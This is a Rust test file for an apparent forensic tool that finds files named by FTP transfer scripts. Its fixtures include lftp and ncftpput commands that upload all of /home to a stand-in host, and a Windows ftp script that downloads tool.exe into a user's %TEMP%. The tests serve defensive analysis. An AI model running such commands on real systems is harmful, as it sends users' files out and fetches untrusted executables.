//! Where the files that transfers name are found: below mirrored folders, and in whose profile.

use crate::support::{case, scan_json};
use ftpsift::case::PayloadStatus;

/// `mirror -R /home` sends what lies in folders below it as well.
#[test]
fn what_lies_below_a_mirrored_folder_is_found() {
    let cases = [
        ("root/x.sh", "#!/bin/sh\nlftp -u a,b -e \"mirror -R /home /up; bye\" ftp.x.example\n"),
        ("root/x.sh", "#!/bin/sh\nncftpput -R -u a -p b ftp.x.example /up /home\n"),
    ];
    for (path, text) in cases {
        let case = case([(path, text), ("home/alice/a.doc", "x"), ("home/bob/sub/deep.doc", "y"), ("etc/z", "z")]);
        let found: Vec<_> = case.payloads.iter().map(|payload| (payload.path.as_deref(), payload.status)).collect();
        let expected = [Some("/home/alice/a.doc"), Some("/home/bob/sub/deep.doc")];
        let relative = expected.map(|path| path.and_then(|path| path.strip_prefix('/')));
        let paths: Vec<_> = found.iter().map(|(path, _)| *path).collect();
        assert!(paths == expected || paths == relative, "{text}: {found:?}");
        assert!(found.iter().all(|(_, status)| *status == PayloadStatus::Found), "{text}: {found:?}");
    }
}

/// Whose `%TEMP%` is meant is known where the script lies in a profile, or where the host has one alone.
#[test]
fn a_folder_of_an_unknown_user_is_a_guess() {
    let script = "open 192.0.2.1\r\nuser bob pw\r\nbinary\r\nlcd %TEMP%\r\nget tool.exe\r\nbye\r\n";
    let temp = |user: &str| format!("C/Users/{user}/AppData/Local/Temp/tool.exe");
    let (public, alice) = ("C/Users/Public/a.txt", "C/Users/alice/a.txt");
    let cases: [(&str, &[&str], &[(&str, PayloadStatus)]); 4] = [
        (public, &["alice"], &[("alice", PayloadStatus::Found)]),
        (public, &["alice", "kim"], &[("alice", PayloadStatus::Candidate), ("kim", PayloadStatus::Candidate)]),
        (alice, &["alice", "kim"], &[("alice", PayloadStatus::Found)]),
        (alice, &["kim"], &[("kim", PayloadStatus::Candidate)]),
    ];
    for (path, users, expected) in cases {
        let folder = tempfile::tempdir().unwrap();
        let mut files: Vec<(String, &str)> = users.iter().map(|user| (temp(user), "MZ")).collect();
        files.push((path.to_owned(), script));
        for (path, content) in &files {
            let path = folder.path().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, content).unwrap();
        }
        let (_, report) = scan_json(folder.path(), &[]);
        let word = |status: &PayloadStatus| serde_json::to_value(status).unwrap();
        let found: Vec<_> = report["payloads"].as_array().unwrap().iter().map(|p| p["status"].clone()).collect();
        assert_eq!(found, expected.iter().map(|(_, status)| word(status)).collect::<Vec<_>>(), "{path} {users:?}");
        for (user, _) in expected {
            let path = temp(user).replacen('C', "C:", 1).replace('/', "\\");
            assert!(report["payloads"].as_array().unwrap().iter().any(|p| p["path"] == path.as_str()), "{path}");
        }
    }
}
